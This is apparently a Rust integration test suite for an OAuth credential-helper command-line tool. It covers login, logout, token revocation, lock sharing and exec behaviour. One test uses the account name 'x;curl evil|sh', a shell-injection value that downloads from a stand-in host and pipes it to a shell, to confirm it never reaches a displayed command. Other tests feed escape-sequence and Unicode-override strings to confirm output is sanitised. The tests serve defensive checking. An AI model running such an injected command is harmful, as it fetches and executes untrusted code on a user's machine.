//! Signing in and out with the real binary: what is kept, what is said, and what is left of a login that came to nothing.

#![cfg(unix)]

mod support;

use std::path::Path;
use std::process::Stdio;

use nix::sys::signal::Signal;
use nix::unistd::Pid;
use serde_json::{Value, json};
use support::signing::{Endpoints, Login, called, recorder, times_called};
use support::{Answer, SERVICE, Sandbox, finish, get};

const GRANTED: &str =
    r#"{"access_token":"AT1","token_type":"Bearer","expires_in":3600,"refresh_token":"RT1"}"#;

fn run(sandbox: &Sandbox, command: &str, arguments: &[&str]) -> Answer {
    let mut process = sandbox.command(command);
    process.args(arguments);
    finish(process, b"")
}

/// The last line of a login's output.
fn last(answer: &Answer) -> Value {
    serde_json::from_str(answer.stdout.lines().last().expect("something was said")).expect("it is JSON")
}

#[track_caller]
fn sign_in(sandbox: &Sandbox, account: &str) -> Value {
    let login = Login::start(sandbox, &["acme", "--account", account]);
    login.come_back("C");
    let answer = login.end();
    assert_eq!(answer.exit, 0, "{} {}", answer.stdout, answer.stderr);
    last(&answer)
}

#[track_caller]
fn code_of(answer: &Answer, exit: i32) -> String {
    assert_eq!(answer.exit, exit, "{} {}", answer.stdout, answer.stderr);
    last(answer)["error"]["code"].as_str().expect("an error has a code").to_owned()
}

/// What lies in the state folder but for what the test put there.
fn left(sandbox: &Sandbox) -> Vec<String> {
    let files = sandbox.files().into_iter().map(|(path, _)| path);
    let names = files.map(|path| path.strip_prefix(sandbox.home()).unwrap().display().to_string());
    names.filter(|name| !["config.toml", ".gitignore", "CACHEDIR.TAG"].contains(&name.as_str())).collect()
}

/// Signs in by pasting the address, as a person is asked to, and gives the answer and all that was said meanwhile.
fn paste(sandbox: &Sandbox, arguments: &[&str]) -> (Answer, String) {
    use std::io::{BufRead as _, Read as _, Write as _};
    let mut command = sandbox.command("login");
    command.args(arguments).arg("--no-browser");
    let mut child = command.spawn().unwrap();
    let mut told = String::new();
    let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
    while !told.contains("paste") {
        assert_ne!(stderr.read_line(&mut told).unwrap(), 0, "{told}");
    }
    let address = told.split_whitespace().find(|word| word.contains("/authorize?")).unwrap();
    let address = url::Url::parse(address).unwrap();
    let sent = |name: &str| address.query_pairs().find(|(key, _)| key == name).unwrap().1.into_owned();
    let pasted = format!("{}/?code=C&state={}\n", sent("redirect_uri"), sent("state"));
    child.stdin.as_mut().unwrap().write_all(pasted.as_bytes()).unwrap();
    stderr.read_to_string(&mut told).unwrap();
    (Answer::of(child.wait_with_output().unwrap()), told)
}

#[test]
fn a_login_that_is_broken_off_leaves_nothing_behind() {
    let server = Endpoints::granting();
    for signal in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGHUP] {
        let sandbox = server.sandbox("");
        let login = Login::start(&sandbox, &["acme", "--account", "alice"]);
        nix::sys::signal::kill(Pid::from_raw(i32::try_from(login.pid()).unwrap()), signal).unwrap();
        let answer = login.end();
        assert_eq!(code_of(&answer, 3), "LOGIN_CANCELLED", "{signal}");
        assert_eq!(left(&sandbox), [""; 0]);
    }
    assert!(server.asked().is_empty());
}

#[test]
fn a_login_that_is_killed_is_in_nobodys_way() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let login = Login::start(&sandbox, &["acme", "--account", "alice"]);
    nix::sys::signal::kill(Pid::from_raw(i32::try_from(login.pid()).unwrap()), Signal::SIGKILL).unwrap();
    assert_eq!(login.end().exit, -1);
    assert!(left(&sandbox).iter().all(|name| name.starts_with("locks/")), "{:?}", left(&sandbox));
    let next = Login::start(&sandbox, &["acme", "--account", "alice"]);
    next.come_back("C");
    let answer = next.end();
    assert!(answer.exit == 0 && !answer.stderr.contains("another process"), "{}", answer.stderr);
    assert!(left(&sandbox).iter().all(|name| !name.starts_with("locks/")), "{:?}", left(&sandbox));
}

#[test]
fn without_a_keyring_people_are_told_once_where_the_session_lies() {
    let server = Endpoints::granting();
    let mut sandbox = server.sandbox("");
    sandbox.unset("CLAVIGER_STORAGE");
    let (answer, told) = paste(&sandbox, &["acme", "--account", "alice"]);
    assert!(answer.stdout.contains("kept in plaintext files"), "{}", answer.stdout);
    assert_eq!(told.matches("tokens are kept in plaintext files").count(), 1, "{told}");
}

#[test]
fn a_refusal_and_a_deadline_have_their_own_codes_and_keep_what_was_there() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    sign_in(&sandbox, "alice");
    let before = sandbox.run("get", &get()).ok();

    let login = Login::start(&sandbox, &["acme", "--account", "alice"]);
    let page =
        login.visit(&format!("/?error=access_denied&error_description=no%1b[31m&state={}", login.state()));
    assert!(page.contains("You are not signed in"), "{page}");
    let answer = login.end();
    assert_eq!(code_of(&answer, 3), "LOGIN_DENIED");
    assert!(answer.stderr.contains("no\\u{1b}[31m"), "{:?}", answer.stderr);

    let login = Login::start(&sandbox, &["acme", "--account", "alice"]);
    login.visit(&format!("/?error=invalid_scope&state={}", login.state()));
    assert_eq!(code_of(&login.end(), 6), "PROVIDER_REJECTED");

    let config = std::fs::read_to_string(sandbox.home().join("config.toml")).unwrap();
    sandbox.configure(&config.replace("login = 60", "login = 1"));
    assert_eq!(code_of(&Login::start(&sandbox, &["acme", "--account", "alice"]).end(), 3), "LOGIN_TIMEOUT");
    assert_eq!(sandbox.run("get", &get()).ok(), before);
}

#[test]
fn whoever_comes_while_another_signs_in_waits_and_shares() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let first = Login::start(&sandbox, &["acme", "--account", "alice"]);
    let waiting: Vec<_> = (0..3)
        .map(|_| {
            let mut command = sandbox.command("login");
            command.args(["acme", "--account", "alice", "--json"]).stdin(Stdio::null());
            let mut child = command.spawn().unwrap();
            let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
            let mut line = String::new();
            std::io::BufRead::read_line(&mut stderr, &mut line).unwrap();
            assert!(line.contains("another process is signing in"), "{line}");
            child
        })
        .collect();
    first.come_back("C");
    assert_eq!(first.end().exit, 0);
    for child in waiting {
        let answer = Answer::of(child.wait_with_output().unwrap());
        let reply = answer.ok();
        assert_eq!((&reply["shared"], &reply["account"]), (&json!(true), &json!("alice")));
    }
    assert_eq!(server.asked().len(), 1, "one code was spent: {:?}", server.asked());
}

/// The login that comes after one that was refused while it waited, or before it came to that.
fn after_a_refusal(sandbox: &Sandbox, meanwhile: impl FnOnce()) -> Login {
    let first = Login::start(sandbox, &["acme", "--account", "alice"]);
    let mut command = sandbox.command("login");
    command.args(["acme", "--account", "alice", "--json"]);
    std::thread::scope(|scope| {
        let second = scope.spawn(|| Login::of(command));
        meanwhile();
        first.visit(&format!("/?error=access_denied&state={}", first.state()));
        assert_eq!(code_of(&first.end(), 3), "LOGIN_DENIED");
        second.join().unwrap()
    })
}

#[test]
fn whoever_waited_for_a_login_that_came_to_nothing_has_a_turn() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let second = after_a_refusal(&sandbox, || ());
    second.come_back("C");
    let answer = second.end();
    assert_eq!((answer.exit, &last(&answer)["shared"]), (0, &json!(false)), "{}", answer.stderr);
}

#[test]
fn the_server_says_who_signed_in_and_nobody_is_called_after_somebody_else() {
    let who = r#"{"login":"octocat","id":583231}"#;
    let server =
        Endpoints::answering(vec![("/token", 200, GRANTED.to_owned()), ("/user", 200, who.to_owned())]);
    let config = format!("userinfo-endpoint = \"{}/user\"\naccount-claim = \"login\"", server.address());
    let sandbox = server.sandbox(&config);
    let sign_in = |arguments: &[&str]| {
        let login = Login::start(&sandbox, arguments);
        login.come_back("C");
        login.end()
    };
    assert_eq!(last(&sign_in(&["acme"]))["account"], "octocat");
    assert_eq!(last(&sign_in(&["acme", "--account", "octocat"]))["account"], "octocat");
    assert_eq!(code_of(&sign_in(&["acme", "--account", "hubot"]), 2), "CONFLICT");
    assert!(server.asked().iter().any(|asked| asked.starts_with("GET /user ")), "{:?}", server.asked());
    let sessions = sandbox.run_bytes("list", b"").ok();
    assert_eq!(sessions["sessions"].as_array().unwrap().len(), 1);

    // Where nobody could say it, nobody is sent to sign in.
    let nameless = Endpoints::granting().sandbox("");
    let answer = run(&nameless, "login", &["acme", "--json"]);
    assert_eq!(code_of(&answer, 2), "BAD_REQUEST");
    assert!(answer.stderr.contains("--account"), "{}", answer.stderr);
}

#[test]
fn the_first_login_is_the_default_and_only_use_and_erase_change_that() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    assert_eq!(sign_in(&sandbox, "alice")["default"], true);
    assert_eq!(sign_in(&sandbox, "bob")["default"], false);
    let default = || sandbox.run("get", &get()).ok()["account"].as_str().unwrap().to_owned();
    assert_eq!(default(), "alice");
    sandbox.run("get", &json!({"service": SERVICE, "account": "bob", "forceRefresh": true})).ok();
    assert_eq!(default(), "alice", "a refresh changes no default");
    let chosen = run(&sandbox, "use", &["bob", "--json"]).ok();
    assert_eq!((&chosen["account"], &chosen["services"]), (&json!("bob"), &json!([SERVICE])));
    assert_eq!(default(), "bob");
    let words = run(&sandbox, "use", &["alice", "acme"]);
    assert_eq!(words.stdout, format!("alice is the default of {SERVICE} now.\n"));
    assert_eq!(default(), "alice");
    assert_eq!(run(&sandbox, "use", &["carol", "--json"]).code(1), "ACCOUNT_NOT_FOUND");
    assert_eq!(default(), "alice");
}

#[test]
fn status_says_what_stands_in_the_way_of_the_next_token() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    assert!(run(&sandbox, "status", &[]).stdout.starts_with("There is no session"));
    sign_in(&sandbox, "alice");
    let kept = json!({"service": "https://static.example", "account": "k\u{202e}ey", "accessToken": "S1", "label": "work"});
    sandbox.run("store", &kept).ok();
    let text = run(&sandbox, "status", &[]).stdout;
    for words in ["SERVICE", "alice", "yes", "plaintext", "k\\u{202e}ey [work]", "not known"] {
        assert!(text.contains(words), "{words}: {text}");
    }
    assert!(!text.contains('\u{1b}') && !text.contains("last obtained"), "{text}");
    let reply = run(&sandbox, "status", &["--json", "--check"]).ok();
    let alice = &reply["sessions"][0];
    assert_eq!((&alice["provider"], &alice["defaultOf"]), (&json!("acme"), &json!([SERVICE])));
    assert!(alice["obtainedAt"].is_string() && alice["problems"] == json!([]), "{reply}");

    // A rejected token, and a slot that is gone.
    sandbox.run("erase", &json!({"service": SERVICE, "accessToken": "AT1"})).ok();
    let text = run(&sandbox, "status", &["--check"]).stdout;
    assert!(text.contains("! its access token was rejected"), "{text}");
    for (path, _) in sandbox.files() {
        if path.to_string_lossy().contains("/slots/") {
            std::fs::remove_file(path).unwrap();
        }
    }
    let text = run(&sandbox, "status", &["--check"]).stdout;
    assert_eq!(text.matches("! it is gone from where it was").count(), 2, "{text}");
}

#[test]
fn a_token_comes_plain_as_a_header_or_as_the_reply_of_get() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    assert_eq!(run(&sandbox, "token", &["acme", "--json"]).code(1), "NOT_FOUND");
    let missing = run(&sandbox, "token", &["acme"]);
    assert_eq!((missing.exit, missing.stdout.as_str()), (1, ""));
    assert!(missing.stderr.contains("run `claviger login acme`"), "{}", missing.stderr);
    sign_in(&sandbox, "alice");
    for target in [&["acme"][..], &[SERVICE], &["api.acme.example"], &[], &["acme", "--account", "alice"]] {
        let answer = run(&sandbox, "token", target);
        assert_eq!((answer.exit, answer.stdout.as_str()), (0, "AT1\n"), "{target:?} {}", answer.stderr);
    }
    assert_eq!(run(&sandbox, "token", &["acme", "--format", "header"]).stdout, "Authorization: Bearer AT1\n");
    let json = run(&sandbox, "token", &["acme", "--format", "json"]).ok();
    assert_eq!(json, run(&sandbox, "token", &["--json"]).ok());
    assert_eq!(json, sandbox.run("get", &get()).ok());
    for (arguments, exit) in
        [(&["nobody"][..], 2), (&["acme", "--account", "bob"], 1), (&["acme", "--format", "x"], 2)]
    {
        assert_eq!(run(&sandbox, "token", arguments).exit, exit, "{arguments:?}");
    }
}

#[test]
fn exec_gives_the_token_to_the_program_and_its_exit_status_to_the_caller() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let exec = |command: &[&str]| {
        let mut arguments = vec!["--env", "TOKEN", "acme", "--"];
        arguments.extend(command);
        run(&sandbox, "exec", &arguments)
    };
    let missing = exec(&["/bin/sh", "-c", "exit 0"]);
    assert_eq!((missing.exit, missing.stdout.as_str()), (125, ""));
    sign_in(&sandbox, "alice");
    let told = exec(&["/bin/sh", "-c", "printf '%s' \"$TOKEN\"; echo oops >&2; exit 7"]);
    assert_eq!((told.exit, told.stdout.as_str(), told.stderr.as_str()), (7, "AT1", "oops\n"));
    let mut reading = sandbox.command("exec");
    reading.args(["--env", "TOKEN", "acme", "--", "/bin/cat"]);
    assert_eq!(
        finish(reading, b"what comes on stdin is the program's").stdout,
        "what comes on stdin is the program's"
    );
    assert_eq!(exec(&["/nowhere/at/all"]).exit, 127);
    assert_eq!(exec(&["/etc/passwd"]).exit, 126);
    for name in ["", "1TOKEN", "TO KEN", "TO=KEN", "TO\nKEN"] {
        assert_eq!(run(&sandbox, "exec", &["--env", name, "acme", "--", "/bin/true"]).exit, 2, "{name:?}");
    }
    // Cores are the program's own affair, and claviger's stay forbidden.
    let limits = std::process::Command::new("/bin/sh")
        .args([
            "-c",
            "ulimit -c 8; exec \"$0\" exec --env TOKEN acme -- /bin/sh -c 'ulimit -c; ulimit -Hc'",
            support::binary(),
        ])
        .env("CLAVIGER_HOME", sandbox.home())
        .env("CLAVIGER_STORAGE", "plaintext")
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&limits.stdout),
        "8\n8\n",
        "{}",
        String::from_utf8_lossy(&limits.stderr)
    );
}

#[test]
fn a_logout_tells_the_server_of_both_tokens_and_ends_here_whatever_it_says() {
    let answers = |status| vec![("/token", 200, GRANTED.to_owned()), ("/revoke", status, "{}".to_owned())];
    for (status, revocation) in [(200, "revoked"), (503, "failed"), (400, "failed")] {
        let server = Endpoints::answering(answers(status));
        let sandbox = server.sandbox(&format!("revocation-endpoint = \"{}/revoke\"", server.address()));
        sign_in(&sandbox, "alice");
        let reply = run(&sandbox, "logout", &["acme", "--json"]).ok();
        assert_eq!((&reply["erased"], &reply["revocation"]), (&json!(true), &json!(revocation)));
        let told: Vec<String> =
            server.asked().into_iter().filter(|asked| asked.contains("POST /revoke")).collect();
        assert!(told[0].contains("token=RT1&token_type_hint=refresh_token"), "{told:?}");
        if status == 200 {
            assert!(told[1].contains("token=AT1&token_type_hint=access_token"), "{told:?}");
        }
        assert_eq!(sandbox.run("get", &get()).code(1), "NOT_FOUND");
        let again = run(&sandbox, "logout", &["acme"]);
        assert_eq!((again.exit, again.stdout.as_str()), (0, "There is no session to end.\n"));
    }
}

#[test]
fn logout_all_ends_every_session_there_is() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    sign_in(&sandbox, "alice");
    sign_in(&sandbox, "bob");
    sandbox
        .run("store", &json!({"service": "https://other.example", "account": "x", "accessToken": "S"}))
        .ok();
    let reply = run(&sandbox, "logout", &["--all", "--json"]).ok();
    assert_eq!(reply["sessions"].as_array().unwrap().len(), 3);
    assert_eq!(sandbox.run_bytes("list", b"").ok()["sessions"], json!([]));
    assert_eq!(run(&sandbox, "logout", &["--all", "acme"]).exit, 2);
}

#[test]
fn the_session_that_is_replaced_is_revoked_only_where_that_ends_it_alone() {
    for (ends, revoked) in [("token", true), ("grant", false)] {
        let server = Endpoints::answering(vec![
            ("/token", 200, GRANTED.to_owned()),
            ("/revoke", 200, "{}".to_owned()),
        ]);
        let sandbox = server.sandbox(&format!(
            "revocation-endpoint = \"{}/revoke\"\nrevocation-ends = \"{ends}\"",
            server.address()
        ));
        sign_in(&sandbox, "alice");
        let label = json!({"service": SERVICE, "account": "alice", "accessToken": "S1", "refreshToken": "RT0", "label": "work"});
        sandbox.run("store", &label).ok();
        let reply = sign_in(&sandbox, "alice");
        assert_eq!(reply.get("replaced"), revoked.then_some(&json!("revoked")), "{ends}");
        let told = server.asked().iter().filter(|asked| asked.contains("/revoke")).count();
        assert_eq!(told, usize::from(revoked), "{ends}");
        assert_eq!(
            sandbox.run_bytes("list", b"").ok()["sessions"][0]["label"],
            "work",
            "people's own word stays"
        );
    }
}

#[test]
fn a_pasted_address_serves_and_another_one_is_asked_for_again() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let mut command = sandbox.command("login");
    command.args(["acme", "--account", "alice", "--no-browser", "--json"]);
    let mut login = Login::of(command);
    assert_eq!(login.event["opened"], false);
    let state = login.state();
    login.say("hello\n");
    login.say(&format!("{}?code=C&state=wrong\n", login.redirect_uri()));
    login.say(&format!("{}\n", "x".repeat(20_000)));
    login.say(&format!("{}/?code=C&state={state}\n", login.redirect_uri()));
    let answer = login.end();
    assert_eq!(answer.exit, 0, "{}", answer.stderr);
    assert_eq!(answer.stderr.matches("that is not the address").count(), 3, "{}", answer.stderr);

    // The end of the input is the end of the login.
    let mut command = sandbox.command("login");
    command.args(["acme", "--account", "alice", "--no-browser", "--json"]);
    assert_eq!(code_of(&finish(command, b""), 3), "LOGIN_CANCELLED");
}

/// A sandbox whose `get` may ask, with a browser that writes down what it was called with.
fn unasked(server: &Endpoints, folder: &Path) -> (Sandbox, std::path::PathBuf) {
    let who = format!("userinfo-endpoint = \"{}/user\"\ninteractive = \"auto\"", server.address());
    let mut sandbox = server.sandbox(&who);
    let (program, record) = recorder(folder, "browser");
    sandbox.set("BROWSER", program.to_str().unwrap());
    sandbox.set("PATH", "/usr/bin:/bin");
    sandbox.set("DISPLAY", ":0");
    (sandbox, record)
}

/// What a person does with the address the browser was given.
fn answer_at(record: &Path, parameters: &str) -> String {
    let text = called(record);
    let url = url::Url::parse(text.lines().nth(1).unwrap()).unwrap();
    let sent = |name: &str| url.query_pairs().find(|(key, _)| key == name).unwrap().1.into_owned();
    let authority = sent("redirect_uri").strip_prefix("http://").unwrap().to_owned();
    let mut stream = std::net::TcpStream::connect(&authority).unwrap();
    let request = format!("GET /?{parameters}&state={} HTTP/1.1\r\nHost: {authority}\r\n\r\n", sent("state"));
    std::io::Write::write_all(&mut stream, request.as_bytes()).unwrap();
    let mut page = String::new();
    std::io::Read::read_to_string(&mut stream, &mut page).unwrap();
    page
}

fn server_of_octocat() -> Endpoints {
    Endpoints::answering(vec![
        ("/token", 200, GRANTED.to_owned()),
        ("/user", 200, r#"{"email":"octo@acme.example"}"#.to_owned()),
    ])
}

#[test]
fn a_get_that_may_ask_opens_one_browser_for_all_that_wait() {
    let server = server_of_octocat();
    let folder = tempfile::tempdir().unwrap();
    let (sandbox, record) = unasked(&server, folder.path());
    let answers = std::thread::scope(|scope| {
        let waiting: Vec<_> = (0..8)
            .map(|_| scope.spawn(|| sandbox.run("get", &json!({"service": format!("{SERVICE}/repo")}))))
            .collect();
        let page = answer_at(&record, "code=C");
        assert!(page.contains("You are signed in") && page.contains(&format!("{SERVICE}/repo")), "{page}");
        waiting.into_iter().map(|one| one.join().unwrap()).collect::<Vec<_>>()
    });
    for answer in &answers {
        assert_eq!(answer.ok()["accessToken"], "AT1");
    }
    let asked = answers.iter().filter(|answer| answer.stderr.contains("in the browser that opens")).count();
    assert_eq!(asked, 1, "one browser");
    assert!(answers.iter().any(|answer| answer.stderr.contains("asks for a token for")));
    assert_eq!(server.asked().iter().filter(|asked| asked.contains("/token")).count(), 1);
}

#[test]
fn nobody_is_asked_in_ci_without_a_display_or_again_and_again() {
    let server = server_of_octocat();
    let folder = tempfile::tempdir().unwrap();
    for (name, value) in
        [("CI", "true"), ("GITHUB_ACTIONS", "true"), ("DISPLAY", ""), ("BROWSER", "/nowhere")]
    {
        let (mut sandbox, record) = unasked(&server, folder.path());
        sandbox.set(name, value);
        if name == "BROWSER" {
            sandbox.set("PATH", "/nowhere");
        }
        assert_eq!(sandbox.run("get", &get()).code(1), "NOT_FOUND", "{name}={value}");
        assert!(!record.exists(), "{name}={value}");
    }
    let (sandbox, record) = unasked(&server, folder.path());
    std::thread::scope(|scope| {
        let refused = scope.spawn(|| sandbox.run("get", &get()));
        answer_at(&record, "error=access_denied");
        assert_eq!(refused.join().unwrap().code(3), "LOGIN_DENIED");
    });
    std::fs::remove_file(&record).unwrap();
    assert_eq!(sandbox.run("get", &get()).code(1), "NOT_FOUND");
    assert!(!record.exists(), "whoever has just said no is not asked again");
    // Signing in of one's own accord is never kept from anybody, and what it makes is served.
    std::thread::scope(|scope| {
        let login = scope.spawn(|| run(&sandbox, "login", &["acme", "--json"]));
        answer_at(&record, "code=C");
        assert_eq!(login.join().unwrap().exit, 0);
    });
    assert_eq!(sandbox.run("get", &get()).ok()["accessToken"], "AT1");
}

#[test]
fn one_refusal_is_that_of_all_who_waited() {
    let server = server_of_octocat();
    let folder = tempfile::tempdir().unwrap();
    let (sandbox, record) = unasked(&server, folder.path());
    let answers = std::thread::scope(|scope| {
        let waiting: Vec<_> = (0..8).map(|_| scope.spawn(|| sandbox.run("get", &get()))).collect();
        answer_at(&record, "error=access_denied");
        waiting.into_iter().map(|one| one.join().unwrap()).collect::<Vec<_>>()
    });
    assert_eq!(times_called(&record), 1, "one browser for all of them");
    let mut codes: Vec<String> =
        answers.iter().map(|answer| answer.json()["error"]["code"].as_str().unwrap().to_owned()).collect();
    codes.sort();
    codes.dedup();
    let known = ["INTERACTION_REQUIRED", "LOGIN_DENIED", "NOT_FOUND"];
    assert!(codes.iter().all(|code| known.contains(&code.as_str())), "{codes:?}");
}

#[test]
fn somebody_else_who_signs_in_is_not_asked_for_at_every_call() {
    let server = server_of_octocat();
    let folder = tempfile::tempdir().unwrap();
    let (sandbox, record) = unasked(&server, folder.path());
    // The default account's session has ended, and the browser is signed in as another.
    let ended = json!({"service": SERVICE, "account": "alice", "accessToken": "S1", "expiresAt": "2020-01-01T00:00:00Z"});
    sandbox.run("store", &ended).ok();
    std::thread::scope(|scope| {
        let asked = scope.spawn(|| sandbox.run("get", &get()));
        answer_at(&record, "code=C");
        assert_eq!(asked.join().unwrap().code(2), "CONFLICT");
    });
    for _ in 0..3 {
        assert_eq!(sandbox.run("get", &get()).code(3), "AUTH_REFRESH_UNAVAILABLE");
    }
    assert_eq!(times_called(&record), 1);
}

#[test]
fn a_login_that_is_stopped_does_not_keep_others_for_ever() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let stopped = Login::start(&sandbox, &["acme", "--account", "alice"]);
    let pid = Pid::from_raw(i32::try_from(stopped.pid()).unwrap());
    nix::sys::signal::kill(pid, Signal::SIGSTOP).unwrap();
    let config = std::fs::read_to_string(sandbox.home().join("config.toml")).unwrap();
    sandbox.configure(&config.replace("login = 60", "login = 1\nrequest = 1\nlock = 2"));
    let waited = run(&sandbox, "login", &["acme", "--account", "alice", "--json"]);
    assert_eq!(code_of(&waited, 4), "LOCK_TIMEOUT");
    assert_eq!(waited.stderr.matches("another process is signing in").count(), 1, "{}", waited.stderr);
    nix::sys::signal::kill(pid, Signal::SIGCONT).unwrap();
    stopped.come_back("C");
    assert_eq!(stopped.end().exit, 0);
}

#[test]
fn what_a_caller_stored_meanwhile_is_nobodys_login() {
    let server = Endpoints::granting();
    let sandbox = server.sandbox("");
    let second = after_a_refusal(&sandbox, || {
        sandbox.run("store", &json!({"service": SERVICE, "account": "alice", "accessToken": "S1"})).ok();
    });
    second.come_back("C");
    assert_eq!(last(&second.end())["shared"], false);
}

#[test]
fn what_is_granted_and_not_kept_is_given_back() {
    let who = r#"{"email":"octo@acme.example"}"#;
    for (ends, others, told) in [("grant", false, 1), ("grant", true, 0), ("token", true, 1)] {
        let server = Endpoints::answering(vec![
            ("/token", 200, GRANTED.to_owned()),
            ("/user", 200, who.to_owned()),
            ("/revoke", 200, "{}".to_owned()),
        ]);
        let sandbox = server.sandbox(&format!(
            "userinfo-endpoint = \"{0}/user\"\nrevocation-endpoint = \"{0}/revoke\"\nrevocation-ends = \"{ends}\"",
            server.address()
        ));
        if others {
            sandbox.run("store", &json!({"service": SERVICE, "account": "bob", "accessToken": "S1"})).ok();
        }
        let login = Login::start(&sandbox, &["acme", "--account", "alice"]);
        login.come_back("C");
        assert_eq!(code_of(&login.end(), 2), "CONFLICT");
        let revoked = server.asked().iter().filter(|asked| asked.contains("/revoke")).count();
        assert_eq!(revoked, told, "{ends} {others}: it would end what another session lives by");
    }
}

#[test]
fn a_name_that_a_shell_would_read_is_in_no_command_that_is_shown() {
    for (name, shown) in [
        ("bob@acme.example", "claviger use bob@acme.example"),
        ("x;curl evil|sh", "claviger use ACCOUNT"),
        ("--help", "claviger use ACCOUNT"),
    ] {
        let who = json!({ "email": name }).to_string();
        let server = Endpoints::answering(vec![("/token", 200, GRANTED.to_owned()), ("/user", 200, who)]);
        let sandbox = server.sandbox(&format!("userinfo-endpoint = \"{}/user\"", server.address()));
        sandbox.run("store", &json!({"service": SERVICE, "account": "alice", "accessToken": "S1"})).ok();
        let (answer, _) = paste(&sandbox, &["acme"]);
        assert!(answer.stdout.contains(&format!("`{shown}`")), "{}", answer.stdout);
    }
}

#[test]
fn a_secret_goes_where_the_issuer_said_and_not_where_a_caller_says_the_issuer_is() {
    let metadata = r#"{"issuer":"BASE","authorization_endpoint":"BASE/authorize","token_endpoint":"BASE/token","revocation_endpoint":"BASE/revoke"}"#;
    let server = Endpoints::answering(vec![
        ("/.well-known/oauth-authorization-server", 200, metadata.to_owned()),
        ("/token", 200, GRANTED.to_owned()),
        ("/revoke", 200, "{}".to_owned()),
    ]);
    let elsewhere = Endpoints::granting();
    let mut sandbox = Sandbox::plaintext();
    sandbox.set("BROWSER", "/bin/true");
    sandbox.set("ACME_SECRET", "CS1-of-acme");
    sandbox.configure(&format!(
        "[providers.acme]\nissuer = \"{}\"\nclient-id = \"cli\"\nclient-auth = \"client_secret_post\"\n\
         client-secret = {{ env = \"ACME_SECRET\" }}\nservices = [\"{SERVICE}\"]\n",
        server.address()
    ));
    sign_in(&sandbox, "alice");
    let forced = |account: &str| {
        sandbox.run("get", &json!({"service": SERVICE, "account": account, "forceRefresh": true}))
    };
    assert_eq!(forced("alice").ok()["outcome"], "refreshed");
    let sent = server.asked().iter().filter(|asked| asked.contains("client_secret=CS1-of-acme")).count();
    assert_eq!(sent, 2, "with the code, and with the refresh token: {:?}", server.asked());

    // A caller names the same issuer and client, and endpoints of its own.
    let claimed = json!({
        "service": SERVICE, "account": "mallory", "accessToken": "S1", "refreshToken": "RT9", "issuer": server.address(),
        "tokenEndpoint": format!("{}/token", elsewhere.address()), "clientId": "cli",
        "revocationEndpoint": format!("{}/revoke", elsewhere.address()),
    });
    sandbox.run("store", &claimed).ok();
    assert_eq!(forced("mallory").code(6), "CONFIG_INVALID");
    let ended = sandbox.run("erase", &json!({"service": SERVICE, "account": "mallory"})).ok();
    assert_eq!((&ended["erased"], &ended["revocation"]), (&json!(true), &json!("failed")));
    assert_eq!(elsewhere.asked(), [""; 0], "nothing was sent there");
    // The login's own session is revoked where its issuer said.
    assert_eq!(
        run(&sandbox, "logout", &["acme", "--account", "alice", "--json"]).ok()["revocation"],
        "revoked"
    );
}
